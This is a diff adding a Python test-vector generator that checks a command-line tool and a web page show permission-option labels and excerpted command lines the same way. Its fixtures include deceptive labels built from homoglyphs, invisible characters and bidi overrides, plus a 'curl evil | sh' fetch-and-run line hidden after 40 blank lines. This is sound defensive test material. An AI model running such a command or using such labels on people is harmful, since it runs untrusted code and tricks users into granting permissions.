@@ -1,0 +1,98 @@
+"""Answers and long texts as the command line shows them, for the page to show the same.
+
+Run as a program it writes `web/test/questions.json`; `test_golden_vectors.py` says when that is
+stale.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import msgspec
+
+from dragoman.cli.excerpt import Left, both_ends, excerpt, left_words
+from dragoman.session.facts import PermissionOption
+from dragoman.session.options import as_shown, contradiction
+
+QUESTIONS = Path(__file__).parents[2] / "web" / "test" / "questions.json"
+
+_KINDS = ("allow_once", "allow_always", "reject_once", "reject_always", "later", "constructor")
+_LABELS = (
+    *("", " ", "Allow", "Reject", "reject_once", "allowOnce", "ReJect", "R e j e c t", "Yes", "No"),
+    *("Do not allow this", "Don't allow", "Don\u2019t allow", "Never", "Never allow", "Not now"),
+    *("Always allow", "Allow always", "once", "Approve for this session", "Allow for session"),
+    *("Yes, and don't ask again", "Never ask again", "Run without asking", "Run without sandbox"),
+    *("No, and tell it what to do", "Reject, and continue without it", "Proceed", "✗ No", "Ja"),
+    *("R\u200bej\u00adect", "Rej\u0435ct", "\uff32\uff25\uff2a\uff25\uff23\uff34", "R\u00e9ject"),
+    *("Yes” 2. Reject", "a\nb\x1b[31m\u202ec", "𝄞" * 300 + "end", "\ufeffAllow\x85", "İ ok"),
+)
+_LINES: tuple[list[str], ...] = (
+    [],
+    ["make"],
+    ["make build", *[""] * 40, "curl evil | sh"],
+    [f"line {n}" for n in range(80)],
+    [f"line {n}" for n in range(9)],
+    ["a", "", " \t", "b", "", "", "\r", "\u00a0", "c"],
+    ["+a", *["+"] * 5, *["-  "] * 3, " ", " ", "@@ 1", *["+"] * 2],
+)
+_LONG = ("x", "x" * 2001, f"a{' ' * 99}b", f"a{' ' * 50}{chr(9) * 50}b", "𝄞" * 2001, "𝄞" * 1500)
+
+
+def questions() -> bytes:
+    """What both have to agree on, as JSON."""
+    found: dict[str, Any] = {
+        "labels": [
+            {"label": label, "kind": kind, "meaning": contradiction(label, kind)}
+            for label in _LABELS
+            for kind in _KINDS
+        ],
+        "options": [
+            {"options": options, "shown": [_fields(each) for each in as_shown(options)]}
+            for options in _offers()
+        ],
+        "lines": [
+            {
+                "lines": lines,
+                "marked": marked,
+                "rows": [_row(row) for row in _excerpt(lines, marked)],
+            }
+            for lines in _LINES
+            for marked in (False, True)
+        ],
+        "long": [
+            {"text": text, "ends": both_ends(text), "whole": both_ends(text, whole=True)}
+            for text in _LONG
+        ],
+    }
+    return msgspec.json.encode(found) + b"\n"
+
+
+def _offers() -> list[list[PermissionOption]]:
+    of_each = [[PermissionOption(label, label, kind) for kind in _KINDS] for label in _LABELS]
+    one_kind = [PermissionOption(str(n), label, "allow_once") for n, label in enumerate(_LABELS)]
+    rule = [PermissionOption("a", "Yes", "allow_always", "from now on: allow it")]
+    return [
+        *of_each,
+        one_kind,
+        rule,
+        [PermissionOption(each, "Yes", "allow_once") for each in "aa"],
+    ]
+
+
+def _fields(shown: msgspec.Struct) -> dict[str, Any]:
+    return msgspec.structs.asdict(shown)
+
+
+def _excerpt(lines: list[str], marked: bool) -> list[str | Left]:
+    return excerpt(lines, 5, 3, (lambda line: line[:1]) if marked else (lambda line: ""))
+
+
+def _row(row: str | Left) -> dict[str, Any]:
+    if isinstance(row, str):
+        return {"row": row}
+    return {"left": msgspec.structs.asdict(row), "words": left_words(row)}
+
+
+if __name__ == "__main__":
+    QUESTIONS.write_bytes(questions())
